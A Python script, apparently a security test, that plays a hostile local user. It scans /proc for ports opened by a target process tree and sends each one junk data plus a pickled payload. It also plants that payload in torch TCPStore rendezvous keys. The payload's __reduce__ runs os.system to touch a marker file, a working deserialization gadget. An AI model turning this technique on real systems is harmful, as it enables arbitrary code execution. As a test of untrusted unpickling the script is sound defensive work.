"""Another user of the machine, who writes to every port that the processes of a fit open.

python hostile_neighbour.py PID MARKER LOG
"""

from __future__ import annotations

import base64
import os
import pickle
import socket
import sys
import tempfile
import time
from collections.abc import Iterator
from contextlib import suppress
from datetime import timedelta
from pathlib import Path
from typing import Any

LISTENS = "0A"  # as /proc/net/tcp writes it


class Payload:
    """Leaves a marker where it is unpickled."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch {self.marker}",)


def descendants(pid: int) -> Iterator[int]:
    """Give a process and all that it started."""
    yield pid
    with suppress(FileNotFoundError, ProcessLookupError):
        for thread in Path(f"/proc/{pid}/task").iterdir():
            for child in (thread / "children").read_text().split():
                yield from descendants(int(child))


def sockets_of(pid: int) -> set[str]:
    """Return the numbers of a process's sockets."""
    found = set()
    with suppress(OSError):
        for descriptor in Path(f"/proc/{pid}/fd").iterdir():
            with suppress(OSError):
                name = os.readlink(descriptor)
                if name.startswith("socket:["):
                    found.add(name[8:-1])
    return found


def open_ports(pid: int) -> dict[int, str]:
    """Return the ports, with addresses, on which a process or a descendant of it listens."""
    owned = set().union(*map(sockets_of, descendants(pid)))
    rows = [
        line.split()
        for table in ("tcp", "tcp6")
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]
    ]
    places = [row[1].rsplit(":", 1) for row in rows if row[3] == LISTENS and row[9] in owned]
    return {int(port, 16): address for address, port in places}


def attack(port: int, payload: bytes) -> None:
    """Write what may be taken for a message, and the payload under the key of torch's launcher."""
    from torch.distributed import TCPStore  # noqa: PLC0415 (seconds, which no port saves)

    for data in (bytes(64), os.urandom(4096), payload, b"GET / HTTP/1.0\r\n\r\n"):
        with (
            suppress(OSError),
            socket.create_connection(("127.0.0.1", port), timeout=1) as stranger,
        ):
            stranger.sendall(data)
    for folder in Path(tempfile.gettempdir()).glob("sklearn_abmtl_*"):
        with suppress(Exception):
            store = TCPStore(
                "127.0.0.1", port, None, False, timedelta(seconds=1), wait_for_workers=False
            )
            store.set(f"torch.rendezvous.{folder.name}", base64.b64encode(payload).decode())


def main() -> None:
    pid, marker, log = int(sys.argv[1]), sys.argv[2], Path(sys.argv[3])
    payload = pickle.dumps(Payload(marker))
    before = open_ports(pid).keys()
    log.touch()
    while True:
        found = open_ports(pid)
        for port, address in found.items() - {(port, found.get(port)) for port in before}:
            with open(log, "a") as file:
                print(address, port, file=file)
            attack(port, payload)
        time.sleep(0.05)


if __name__ == "__main__":
    main()
